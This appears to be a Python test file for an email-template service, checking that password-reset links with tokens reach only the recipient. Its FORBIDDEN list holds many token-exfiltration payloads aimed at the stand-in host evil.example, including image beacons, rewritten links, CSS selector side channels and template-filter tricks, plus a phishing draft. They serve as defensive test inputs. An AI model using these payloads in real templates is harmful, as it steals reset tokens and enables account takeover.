"""Links with tokens: a template author cannot send a token anywhere but into the recipient's own email."""

from __future__ import annotations

import asyncio
import json
import re
from typing import Any

from gatepost.mail.rendering import Diagnostic, Source, Variable
from tests.support import Device, Service, assert_problem
from tests.support.cli import run_here
from tests.support.mail import queue_email, wait_for_status
from tests.support.rendering import open_pool

BASE = "/v1/settings/email-templates"
THEFT = '<img alt="" src="https://evil.example/?u={{ reset_url | urlencode }}">'
LINK = "https://app.example.com/reset-password#token=secret-token"
DECLARED = [
    Variable("reset_url", "link", example=LINK),
    Variable("name", example="Ada"),
    Variable("flag", "boolean", required=False, example=True),
    Variable("items", "list", required=False, example=["one", "two"]),
]
ALLOWED = [
    '<p><a href="{{ reset_url }}">Reset</a></p>',
    "<p><a href='{{ reset_url }}'>{{ reset_url }}</a></p>",
    "<p>{% if flag %}Open {% endif %}<b>{{ reset_url }}</b>.</p>",
    "{% if flag %}<p>One</p>{% endif %}<p>{{ reset_url }}</p>",
    "{% if reset_url and not flag %}<p>No</p>{% else %}<p>({{ reset_url }})</p>{% endif %}",
    '<!--[if mso]><a href="{{ reset_url }}">x</a><![endif]-->',
    "{% for item in items %}<p>{{ item }} {{ reset_url }}</p>{% endfor %}",
]
FORBIDDEN = [
    THEFT,
    '<img alt="" src="{{ reset_url }}">',
    '<img alt="{{ reset_url }}" src="https://evil.example/x.png">',
    '<a href="https://evil.example/?u={{ reset_url | urlencode }}">x</a>',
    '<a href="https://evil.example/?u={{ reset_url }}">x</a>',
    '<a href="{{ reset_url }}&x">x</a>',
    '<a href=" {{ reset_url }}">x</a>',
    '<a href="{% if flag %}{{ reset_url }}{% endif %}">x</a>',
    "<a href={{ reset_url }}>x</a>",
    '<a ping="https://evil.example/" href="{{ reset_url }}">x</a>',
    '<a href="https://evil.example/" title="{{ reset_url }}">x</a>',
    '<map name="m"><area href="{{ reset_url }}" alt="x"></map>',
    '<v:rect href="{{ reset_url }}"></v:rect>',
    '<p style="background: url({{ reset_url }})">x</p>',
    '<p background="{{ reset_url }}">x</p>',
    '<!--[if mso]><img alt="" src="{{ reset_url }}"><![endif]-->',
    "<!-- {{ reset_url }} -->",
    "<title>{{ reset_url }}</title>",
    "<style>p { color: {{ reset_url }} }</style>",
    # Text that email clients turn into a link.
    "<p>https://evil.example/?u={{ reset_url }}</p>",
    "<p>https://evil.example/?u=<b>{{ reset_url }}</b></p>",
    "<p>https://evil.example/?u=&#8203;{{ reset_url }}</p>",
    "<p>https://evil.example/?u=({{ reset_url }})</p>",
    "<p>{{ name }}{{ reset_url }}</p>",
    "<p>{% if flag %}https://evil.example/?{% else %} {% endif %}{{ reset_url }}</p>",
    "<p>{% for item in items %}{{ reset_url }} https://evil.example/?{% endfor %}</p>",
    '<p>https://evil.example/?<a href="{{ reset_url }}"></a></p>',
    # What could reveal a token bit by bit.
    '<style>a[href*="token=a"] { background: url(https://evil.example/a) }</style><a href="{{ reset_url }}">x</a>',
    '<style>a[*|HREF^="h"] { color: red }</style><a href="{{ reset_url }}">x</a>',
    "<style>@font-face { font-family: x; src: url(https://evil.example/x) }</style><p>{{ reset_url }}</p>",
    '{% if reset_url < "https://m" %}<p>x</p>{% endif %}',
    "{% if reset_url is odd %}<p>x</p>{% endif %}",
    # What could move it elsewhere.
    "<p>{{ reset_url | upper }}</p>",
    "<p>{{ reset_url | truncate(80) }}</p>",
    "<p>{{ name | default(reset_url) }}</p>",
    '<p>{{ "https://evil.example/" ~ reset_url }}</p>',
    "<p>{{ reset_url or name }}</p>",
    "<p>{{ reset_url if flag else name }}</p>",
    "<p>{{ reset_url.token }}</p>",
    "{% for letter in reset_url %}<p>{{ letter }}</p>{% endfor %}",
    "{% for reset_url in items %}<p>{{ reset_url }}</p>{% endfor %}",
    "{% set x = reset_url %}<p>{{ x }}</p>",
    "{% macro m(x) %}{{ x }}{% endmacro %}{{ m(reset_url) }}",
    "{% block b %}{{ reset_url }}{% endblock %}",
    "{% include reset_url %}",
]


def errors(found: list[Diagnostic]) -> list[Diagnostic]:
    return [each for each in found if each.severity == "error"]


async def test_a_link_can_be_shown_to_the_recipient() -> None:
    async with open_pool(1) as pool:
        for html in ALLOWED:
            preview, found = await pool.preview(Source("Hello", html), DECLARED, {}, locale="en", product_name="Acme")
            assert not errors(found), html
            assert preview is not None
            assert "secret-token" in preview.html, html


async def test_a_link_can_be_nowhere_else() -> None:
    async with open_pool(1) as pool:
        for html in FORBIDDEN:
            found = errors(await pool.check(Source("Hello", html), DECLARED))
            assert found, html
            assert all(each.part == "html" and each.line == 1 and each.column >= 1 for each in found), html
        for source, part in (
            (Source("{{ reset_url }}", "<p>x</p>", "x"), "subject"),
            (Source("x", "<p>x</p>", "x", "{{ reset_url }}"), "preheader"),
            (Source("x", "<p>x</p>", "\nhttps://evil.example/?{{ reset_url }}"), "text"),
            (Source("x", "<p>x</p>", "\n{{ reset_url | urlencode }}"), "text"),
        ):
            [found_one] = errors(await pool.check(source, DECLARED))
            assert (found_one.part, found_one.rule) == (part, "link-variable")
            assert found_one.line == (2 if part == "text" else 1)


async def test_a_link_of_a_built_in_template_must_be_declared_as_a_link(service: Service) -> None:
    admin = await service.register_admin()
    declared = [{"name": "reset_url", "type": "url", "example": LINK}, {"name": "expires_in", "example": "1 hour"}]
    body = {"subject": "x", "html": THEFT, "variables": declared}
    saved = await admin.request("PUT", f"{BASE}/reset-password/draft", json=body)
    assert [each["rule"] for each in saved.json()["draft"]["diagnostics"]] == ["link-type"]
    assert_problem(await admin.post(f"{BASE}/reset-password/publish"), 422, "template_invalid")


async def test_drafts_previews_publishing_and_the_cli_report_the_same_error(service: Service, tmp_path: Any) -> None:
    admin = await service.register_admin()
    html, column = f"<p>Reset</p>\n{THEFT}", THEFT.index("reset_url") + 1
    saved = await admin.request("PUT", f"{BASE}/reset-password/draft", json={"subject": "x", "html": html})
    assert saved.status_code == 200, saved.text
    [found] = [each for each in saved.json()["draft"]["diagnostics"] if each["column"] == column]
    assert (found["part"], found["line"], found["severity"]) == ("html", 2, "error")
    assert found["rule"] == "link-variable"
    for response in (
        await admin.post(f"{BASE}/reset-password/publish"),
        await admin.post(f"{BASE}/reset-password/preview", {"subject": "x", "html": html}),
    ):
        assert found in assert_problem(response, 422, "template_invalid")["errors"]

    folder = tmp_path / "own" / "en"
    folder.mkdir(parents=True)
    (folder / "body.html").write_text(html)
    (folder / "subject.txt").write_text("x")
    (folder / "preheader.txt").write_text("")
    declared = '[[variables]]\nname = "reset_url"\ntype = "link"\n'
    (folder.parent / "template.toml").write_text(f'name = "x"\ndescription = "x"\n{declared}')
    status, _, stderr = await asyncio.to_thread(run_here, ["templates", "lint", tmp_path], {})
    assert status == 1
    assert f"own/en/html:2:{column}: error:" in stderr
    assert "[link-variable]" in stderr


async def test_a_template_that_was_published_before_sends_no_token(service: Service) -> None:
    admin = await service.register_admin()
    prepared = {"subject": "x", "html": THEFT, "text": "x"}
    declared = [{"name": "reset_url", "type": "url"}]
    source = {"subject": "x", "html": THEFT, "text": "x", "variables": declared}
    await service.sql.execute("insert into gatepost.email_templates values ('reset-password', true, 'x', 'x')")
    await service.sql.execute(
        "insert into gatepost.email_template_locales (key, locale, published_version, updated_by) "
        "values ('reset-password', 'en', 1, 'x')"
    )
    await service.sql.execute(
        "insert into gatepost.email_template_versions (key, locale, version, source, prepared, published_by) "
        "values ('reset-password', 'en', 1, $1, $2, 'x')",
        json.dumps(source),
        json.dumps(prepared),
    )
    await service.http.post("/v1/auth/password/forgot", json={"email": admin.email})
    email_id = await service.sql.fetchval("select id from gatepost.emails where template = 'reset-password'")
    row = await wait_for_status(service, str(email_id), "failed")
    assert row["payload"] is None
    assert "link with a token" in row["last_error"]


async def test_only_the_link_of_a_rendered_email_is_inserted(service: Service) -> None:
    """Values cannot contain what stands for a link while a template is rendered."""
    email_id = await queue_email(
        service, template="reset-password", variables={"reset_url": LINK + "&a=b", "expires_in": "1 hour"}
    )
    await wait_for_status(service, email_id, "sent")
    payload = json.loads(await service.sql.fetchval("select payload from gatepost.emails where id = $1", email_id))
    assert set(re.findall(r'href="([^"]*secret[^"]*)"', payload["html"])) == {LINK.replace("&", "&amp;") + "&amp;a=b"}
    assert LINK + "&a=b" in payload["text"]


async def link_template(person: Device, key: str) -> None:
    body = {
        "key": key, "name": key, "subject": "x", "html": '<p><a href="{{ go }}">x</a></p>',
        "variables": [{"name": "go", "type": "link", "example": LINK}],
    }  # fmt: skip
    created = await person.post(BASE, body)
    assert created.status_code == 201, created.text


async def test_an_api_key_drafts_templates_with_links_but_an_admin_publishes_them(service: Service) -> None:
    admin = await service.register_admin()
    key = await service.create_api_key(admin, "templates:write")
    await link_template(key, "own-link")
    phishing = {"subject": "x", "html": '<p><a href="https://evil.example/">x</a></p>'}
    for template in ("own-link", "reset-password", "session-revoked"):
        # Without the link it is the link of the published version that keeps a key from replacing it.
        etag = {"If-Match": "*"}
        saved = await key.request("PUT", f"{BASE}/{template}/draft", json=phishing, headers=etag)
        assert saved.status_code == 200, saved.text
        problem = assert_problem(await key.post(f"{BASE}/{template}/publish"), 403, "forbidden")
        assert "An admin can do this" in problem["detail"]
        assert_problem(await key.delete(f"{BASE}/{template}"), 403, "forbidden")
    assert (await admin.post(f"{BASE}/own-link/publish")).status_code == 201
    restored = await key.post(f"{BASE}/own-link/versions/1/restore")
    assert restored.status_code == 200, restored.text
    assert_problem(await key.post(f"{BASE}/own-link/publish"), 403, "forbidden")
    assert_problem(await key.delete(f"{BASE}/own-link"), 403, "forbidden")

    welcome = await key.request("PUT", f"{BASE}/welcome/draft", json={"subject": "x", "html": "<p>Hi</p>"})
    assert welcome.status_code == 200
    assert (await key.post(f"{BASE}/welcome/publish")).status_code == 201

    await service.sql.execute("update gatepost.sessions set authenticated_at = now() - interval '1 hour'")
    assert_problem(await admin.post(f"{BASE}/reset-password/publish"), 403, "reauthentication_required")
    assert_problem(await admin.delete(f"{BASE}/reset-password"), 403, "reauthentication_required")
